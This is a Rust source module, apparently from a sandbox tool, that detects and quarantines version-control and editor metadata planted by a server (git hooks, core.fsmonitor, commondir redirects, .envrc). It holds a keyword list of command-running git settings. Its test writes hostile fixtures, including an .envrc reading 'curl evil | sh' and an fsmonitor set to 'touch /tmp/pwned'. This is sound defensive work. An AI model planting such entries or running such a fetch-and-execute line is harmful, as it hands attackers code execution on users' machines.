//! What a server left in its writable roots that tools outside would run:
//! version-control and editor metadata that was not there when it started.
//!
//! The view keeps the metadata that exists read-only (see
//! [`super::control`]); a mount cannot refuse a name that does not exist
//! yet. So when a server generation ends, rootfence looks again, through
//! each root's handle, and reports every control path that is new (a new
//! repository, a `.envrc`, a `.vscode` directory) with the lines in it
//! that would run something, and every new entry at the top of an existing
//! `.git` or `.hg` that the VCS does not write in normal work. The two
//! files that silently redirect git for the whole repository, `commondir`
//! and `config.worktree`, are moved into `.git/rootfence-quarantine/`
//! (never deleted) so that the user's next `git status` does not read them.

use std::path::{Path, PathBuf};

use super::control::{self, ControlKind, ControlPath};
use super::{Access, CanonicalRoot, RootHandle, RootKind};

/// Where quarantined entries go, inside the `.git` they were found in.
pub const QUARANTINE: &str = "rootfence-quarantine";

/// Entries of a `.git` that redirect git for the whole repository when
/// they appear: moved away, not only reported.
const REDIRECTS: &[&str] = &["commondir", "config.worktree"];

/// One thing a server left.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Planted {
    /// The path.
    pub path: PathBuf,
    /// Where it was moved to, if it was.
    pub moved_to: Option<PathBuf>,
    /// The lines in it (or in the files it points git at) that would run
    /// something: hooks, `core.fsmonitor`, aliases, tasks. Empty when none
    /// were found.
    pub runs: Vec<String>,
}

impl std::fmt::Display for Planted {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.path.display())?;
        if let Some(to) = &self.moved_to {
            write!(f, " (moved to {})", to.display())?;
        }
        if self.runs.is_empty() {
            f.write_str(": nothing in it runs a command that rootfence recognizes")
        } else {
            write!(f, ": would run {}", self.runs.join("; "))
        }
    }
}

#[derive(Debug)]
struct Watched {
    path: PathBuf,
    handle: RootHandle,
    before: Vec<ControlPath>,
}

/// The writable roots of a launch and their control paths at its start.
#[derive(Debug, Default)]
pub struct Watch {
    roots: Vec<Watched>,
}

impl Watch {
    /// Watch the writable directory roots of `roots` (their control paths
    /// as resolved).
    pub fn of(roots: &[CanonicalRoot]) -> Watch {
        Watch {
            roots: roots
                .iter()
                .filter(|r| r.access == Access::ReadWrite && r.kind == RootKind::Directory)
                .map(|r| Watched {
                    path: r.path.clone(),
                    handle: r.handle.clone(),
                    before: r.control.0.clone(),
                })
                .collect(),
        }
    }

    /// Whether there is nothing to look at.
    pub fn is_empty(&self) -> bool {
        self.roots.is_empty()
    }

    /// Look again, once the generation is over: what is new, with the
    /// redirects moved away.
    pub fn after(&self) -> Vec<Planted> {
        let mut out = Vec::new();
        for w in &self.roots {
            let Ok(dir) = w.handle.dir() else { continue };
            let (now, _) = control::scan(&dir, &w.path);
            for c in &now {
                let Ok(rel) = c.path.strip_prefix(&w.path) else {
                    continue;
                };
                match w.before.iter().find(|b| b.path == c.path) {
                    None => out.push(Planted {
                        path: c.path.clone(),
                        moved_to: None,
                        runs: runs(&dir, rel, c.kind),
                    }),
                    Some(b) if matches!(b.kind, ControlKind::GitDir | ControlKind::Hg) => {
                        new_inner(&dir, rel, b, c, &mut out);
                    }
                    Some(_) => {}
                }
            }
        }
        out
    }
}

/// New entries at the top of an existing `.git` or `.hg`.
fn new_inner(
    dir: &cap_std::fs::Dir,
    rel: &Path,
    before: &ControlPath,
    now: &ControlPath,
    out: &mut Vec<Planted>,
) {
    let writes = if before.kind == ControlKind::GitDir {
        control::git_writes
    } else {
        control::hg_writes
    };
    for name in &now.inner {
        if before.inner.contains(name) || writes(name) || name == QUARANTINE {
            continue;
        }
        let entry = rel.join(name);
        let runs = runs(dir, &entry, ControlKind::GitDir);
        let moved_to = if before.kind == ControlKind::GitDir && REDIRECTS.contains(&name.as_str()) {
            quarantine(dir, rel, name)
        } else {
            None
        };
        out.push(Planted {
            path: now.path.join(name),
            moved_to: moved_to.map(|m| now.path.join(m)),
            runs,
        });
    }
}

/// Move `rel/name` to `rel/rootfence-quarantine/<seconds>/name`: the path
/// moved to, relative to `rel`.
fn quarantine(dir: &cap_std::fs::Dir, rel: &Path, name: &str) -> Option<PathBuf> {
    let secs = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0);
    let to = Path::new(QUARANTINE).join(secs.to_string());
    dir.create_dir_all(rel.join(&to)).ok()?;
    let dest = to.join(name);
    dir.rename(rel.join(name), dir, rel.join(&dest)).ok()?;
    Some(dest)
}

/// Most bytes read from one file to find what it runs.
const READ_MAX: u64 = 256 * 1024;

/// The lines of the control path `rel` (or of the files in it) that would
/// run a command.
fn runs(dir: &cap_std::fs::Dir, rel: &Path, kind: ControlKind) -> Vec<String> {
    let mut files: Vec<PathBuf> = Vec::new();
    match dir.symlink_metadata(rel) {
        Ok(md) if md.is_dir() => {
            for sub in [
                "config",
                "config.worktree",
                "commondir",
                "hgrc",
                "tasks.json",
                "settings.json",
                "launch.json",
                "workspace.xml",
            ] {
                files.push(rel.join(sub));
            }
            if let Ok(hooks) = dir.read_dir(rel.join("hooks")) {
                for h in hooks.flatten() {
                    let n = h.file_name().to_string_lossy().into_owned();
                    if !n.ends_with(".sample") {
                        files.push(rel.join("hooks").join(&n));
                    }
                }
            }
        }
        Ok(_) => files.push(rel.to_path_buf()),
        Err(_) => return Vec::new(),
    }
    let mut out = Vec::new();
    for f in files {
        let Ok(text) = read_bounded(dir, &f) else {
            continue;
        };
        let shown = f.display().to_string();
        if f.parent().is_some_and(|p| p.ends_with("hooks")) {
            out.push(format!("{shown} (a hook)"));
            continue;
        }
        if f.ends_with("commondir") {
            out.push(format!("{shown} sends git to {}", text.trim()));
            continue;
        }
        if kind == ControlKind::Envrc || f.ends_with(".envrc") {
            if let Some(l) = text.lines().find(|l| !l.trim().is_empty()) {
                out.push(format!("{shown}: {}", l.trim()));
            }
            continue;
        }
        for line in text.lines() {
            let l = line.trim();
            let lower = l.to_ascii_lowercase();
            let runs_something = [
                "fsmonitor",
                "hookspath",
                "sshcommand",
                "editor",
                "pager",
                "askpass",
                "textconv",
                "smudge",
                "clean",
                "process",
                "gitproxy",
                "helper",
                "program",
                "\"command\"",
                "hooks",
            ]
            .iter()
            .any(|k| lower.contains(k))
                || (lower.contains('=') && lower.contains('!'));
            if runs_something && !l.starts_with('#') && !l.starts_with(';') {
                out.push(format!("{shown}: {l}"));
            }
        }
    }
    out
}

fn read_bounded(dir: &cap_std::fs::Dir, rel: &Path) -> std::io::Result<String> {
    use std::io::Read;
    let f = dir.open(rel)?;
    let mut buf = Vec::new();
    f.take(READ_MAX).read_to_end(&mut buf)?;
    Ok(String::from_utf8_lossy(&buf).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn root(dir: &Path) -> CanonicalRoot {
        let rules = crate::roots::RootRules::default();
        let input = crate::roots::RootInput::command_line(
            dir.to_str().unwrap(),
            crate::roots::Access::ReadWrite,
        );
        crate::roots::resolve(&input, &rules).unwrap()
    }

    #[test]
    fn new_metadata_is_reported_and_git_redirects_moved_away() {
        let t = tempfile::tempdir().unwrap();
        let r = std::fs::canonicalize(t.path()).unwrap();
        std::fs::create_dir_all(r.join(".git/objects")).unwrap();
        std::fs::write(r.join(".git/config"), "[core]\n").unwrap();
        let w = Watch::of(&[root(&r)]);
        assert!(w.after().is_empty(), "nothing new yet");
        // What a server might leave: a redirect, a new object (normal),
        // a new repository with an fsmonitor, an .envrc.
        std::fs::write(r.join(".git/commondir"), "../evil\n").unwrap();
        std::fs::write(r.join(".git/objects/ab"), "").unwrap();
        std::fs::write(r.join(".git/ORIG_HEAD"), "x").unwrap();
        std::fs::create_dir_all(r.join("sub/.git")).unwrap();
        std::fs::write(
            r.join("sub/.git/config"),
            "[core]\n\tfsmonitor = touch /tmp/pwned\n",
        )
        .unwrap();
        std::fs::write(r.join(".envrc"), "curl evil | sh\n").unwrap();
        let got = w.after();
        let paths: Vec<String> = got
            .iter()
            .map(|p| p.path.strip_prefix(&r).unwrap().display().to_string())
            .collect();
        assert_eq!(paths, [".envrc", ".git/commondir", "sub/.git"], "{got:?}");
        let commondir = &got[1];
        let moved = commondir.moved_to.as_ref().expect("commondir moved");
        assert!(
            moved.starts_with(r.join(".git").join(QUARANTINE)),
            "{moved:?}"
        );
        assert!(!r.join(".git/commondir").exists());
        assert_eq!(std::fs::read_to_string(moved).unwrap(), "../evil\n");
        assert!(
            got[2].runs.iter().any(|l| l.contains("fsmonitor")),
            "{got:?}"
        );
        assert!(
            got[0].runs.iter().any(|l| l.contains("curl evil")),
            "{got:?}"
        );
    }
}
